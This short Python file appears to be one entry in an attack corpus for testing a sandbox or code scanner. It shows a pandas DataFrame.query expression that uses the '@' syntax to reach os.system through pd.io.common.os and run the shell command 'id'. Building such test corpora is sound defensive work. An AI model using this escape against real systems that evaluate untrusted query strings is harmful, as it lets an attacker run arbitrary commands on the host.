# corpus: attack class=process form=targeted
# A pandas query reaches os through a module's attributes with @.
import pandas as pd


def main():
    frame = pd.DataFrame({"a": [1]})
    result = frame.query("@pd.io.common.os.system('id') == 0", engine="python")
    return {"rows": len(result)}
